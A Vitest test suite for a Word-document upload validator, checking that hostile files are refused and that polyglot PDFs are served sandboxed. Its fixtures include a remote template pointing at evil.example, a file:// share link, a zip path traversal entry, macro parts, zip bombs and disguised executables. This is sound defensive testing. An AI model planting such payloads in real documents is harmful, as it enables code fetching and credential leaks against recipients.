import { randomBytes } from "node:crypto";
import { expect, test, vi } from "vitest";
import { tables } from "@/db/schema";
import { paper, relations } from "../support/documents";
import { fetched, paperFiles, put } from "../support/papers";
import { aTopic, sits } from "../support/topics";
import { township } from "../support/township";

vi.mock("@/lib/gate/session", () => ({ deskOfRequest: async () => (await import("../support/papers")).sent.by }));

async function begun() {
  const town = await township();
  return { town, topicId: await aTopic(town), lin: await sits(town, "lin") };
}

const macroType = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const rel = (name: string, inner: string) => ({ name, data: relations(inner) });
const exe = Buffer.concat([Buffer.from("MZ\u0090\0"), Buffer.alloc(200)]);

const hostile: [why: string, bytes: Uint8Array, words: string, name?: string][] = [
  ["a renamed program", exe, "只收 Word"],
  ["a program before a document", Buffer.concat([exe, paper()]), "只收 Word"],
  ["a web page", Buffer.from("<!doctype html><script>1</script>"), "只收 Word", "报告.pdf"],
  ["an svg", Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'/>"), "只收 Word", "图.png"],
  ["nothing", Buffer.alloc(0), "空的"],
  ["an old document", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]), "旧版格式", "报告.doc"],
  ["a document with macros", paper("docx", [{ name: "word/vbaProject.bin", data: "x" }]), "宏"],
  ["a macro under another name", paper("docx", [{ name: "word/x.bin", data: "x" }], macroType), "宏"],
  ["a docm called .docx", paper("docx", [{ name: "[Content_Types].xml", data: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }]), "宏"],
  ["a template fetched from elsewhere", paper("docx", [rel("word/_rels/settings.xml.rels", '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>')]), "引用了别处"],
  ["the same behind a bracket", paper("docx", [rel("word/_rels/settings.xml.rels", '<Relationship Id="a>b" Type="http://x/attachedTemplate" Target="http://evil.example/>" TargetMode="&#69;xternal"/>')]), "引用了别处"],
  ["the same with two types", paper("docx", [rel("word/_rels/settings.xml.rels", '<Relationship x:Type="http://x/hyperlink" Id="a" Type="http://x/frame" Target="http://evil.example/" TargetMode="External"/>')]), "引用了别处"],
  ["a link to a share", paper("docx", [rel("word/_rels/document.xml.rels", '<Relationship Id="r" Type="http://x/hyperlink" Target="file://evil/share" TargetMode="External"/>')]), "引用了别处"],
  ["another workbook's cells", paper("xlsx", [{ name: "xl/externalLinks/externalLink1.xml", data: "x" }]), "引用了别处", "表.xlsx"],
  ["an OLE package inside", paper("pptx", [{ name: "ppt/embeddings/oleObject1.bin", data: exe }]), "文档以外的东西", "幻灯.pptx"],
  ["a program inside", paper("docx", [{ name: "word/media/setup.exe", data: exe }]), "文档以外的东西"],
  ["a way out of the folder", paper("docx", [{ name: "../evil.xml", data: "x" }]), "不完整"],
  ["an entity", paper("docx", [rel("_rels/.rels", '<!DOCTYPE x [<!ENTITY a "b">]>')]), "文档以外的东西"],
  ["a part twice", paper("docx", [{ name: "word/Document.xml", data: "x" }]), "文档以外的东西"],
  ["a locked part", paper("docx", [{ name: "word/a.xml", data: "x", locked: true }]), "密码"],
  ["a zip of anything", paper("docx", [{ name: "[Content_Types].xml", data: "<Types/>" }]), "只收 Word"],
  ["half a document", paper().subarray(0, 300), "不完整"],
  ["a bomb that says so", paper("docx", [{ name: "word/media/a.png", data: "x", claims: 900 * 1024 * 1024 }]), "展开后太大"],
  ["a bomb by its ratio", paper("docx", [{ name: "word/media/a.png", data: Buffer.alloc(4_000_000) }]), "展开后太大"],
  ["a list of types that lies about its size", paper("docx", [{ name: "[Content_Types].xml", data: Buffer.alloc(50_000_000, 32), claims: 10 }]), "不完整"],
  ["a flood of a picture", Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(60)]), "打不开", "图.png"],
  ["a document called .pdf", paper(), "内容其实是“Word 文档”", "报告.pdf"],
  ["a pdf called .exe", Buffer.from("%PDF-1.7"), "内容其实是“PDF”", "报告.exe"],
  ["slides called .docx", paper("pptx"), "内容其实是“演示文稿”"],
];

test("what does harm, lies or cannot be read is refused in words beside the file, and nothing of it stays", async () => {
  const { town, topicId, lin } = await begun();
  const before = paperFiles().length;
  for (const [why, bytes, words, name = "报告.docx"] of hostile) {
    const said = await put(lin, topicId, bytes, { name });
    expect([why, said.status, said.fields?.file]).toEqual([why, 422, expect.stringContaining(words)]);
  }
  expect([paperFiles().length - before, (await town.store.read.select().from(tables.deliverables)).length]).toEqual([0, 0]);
});

test("what was written to make the reading slow is read as fast as anything else", async () => {
  const { topicId, lin } = await begun();
  const noise = (piece: string, head = "") => {
    const bytes = Array.from({ length: 400 }, (_, n) => `${n} ${head}`).join("") + piece.repeat(Math.floor(2_500_000 / piece.length));
    return paper("docx", [{ name: "word/_rels/document.xml.rels", data: bytes }, { name: "word/media/a.bin", data: randomBytes(300_000) }]);
  };
  const before = performance.now();
  for (const slow of [noise("<Relationship "), noise("a", "<Relationship "), noise(" ", "<Relationship a"), noise("a=\"'", "<Relationship "), noise("w:", "<")]) expect((await put(lin, topicId, slow)).status).toBe(201);
  expect(performance.now() - before).toBeLessThan(4000);
});

test("a link to a web page is only a word in a text; a PDF that is also something else leaves as a PDF in a sandbox", async () => {
  const { town, topicId, lin } = await begun();
  const linked = paper("docx", [rel("word/_rels/document.xml.rels", '<Relationship Id="r" Type="http://x/relationships/hyperlink" Target="https://www.gov.cn/a?b=1" TargetMode="External"/>')]);
  expect(await put(lin, topicId, linked)).toMatchObject({ status: 201 });
  const polyglot = Buffer.concat([Buffer.from("%PDF-1.7\n<script>alert(1)</script>\n"), paper()]);
  expect(await put(lin, topicId, polyglot, { name: "报告.pdf" })).toMatchObject({ status: 201 });
  const { headers } = await fetched(lin, topicId, (await town.store.read.select().from(tables.deliverableVersions)).find(({ kind }) => kind === "pdf")!.id);
  expect([headers.get("content-type"), headers.get("x-content-type-options"), headers.get("content-security-policy"), headers.get("content-disposition")?.slice(0, 11)])
    .toEqual(["application/pdf", "nosniff", "default-src 'none'; sandbox", "attachment;"]);
});
